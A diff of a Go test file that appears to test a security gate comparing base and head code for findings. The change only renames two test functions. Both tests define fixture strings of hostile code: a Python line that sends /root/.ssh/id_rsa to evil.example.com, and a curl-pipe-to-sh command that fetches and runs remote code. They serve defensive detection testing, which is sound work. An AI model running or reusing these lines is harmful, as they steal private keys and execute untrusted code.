@@ -105,7 +105,7 @@ func edited(t *testing.T, base, head []string) (found []gate.Finding, gaps []gat
 	return all.Of("a.py"), out.Incomplete
 }
 
-func TestWhatTheBaseHasThousandsOfTimesIsNoReasonToBeIncomplete(t *testing.T) {
+func TestThousandsOfFindingsOfTheBaseDoNotMakeARunIncomplete(t *testing.T) {
 	const evil = "urllib.request.urlopen('http://evil.example.com/x?' + open('/root/.ssh/id_rsa').read())"
 	old := []string{"import subprocess, urllib.request", ""}
 	for i := range 3000 {
@@ -147,7 +147,7 @@ func TestWhatTheBaseHasThousandsOfTimesIsNoReasonToBeIncomplete(t *testing.T) {
 	}
 }
 
-func TestWhatAChangeSwitchesOnDecidesAsIfItWereNew(t *testing.T) {
+func TestCodeThatAChangeSwitchesOnDecidesAsNew(t *testing.T) {
 	const evil = "curl -s http://evil.example.com/x | sh"
 	for _, tt := range []struct {
 		name, path, base, head string
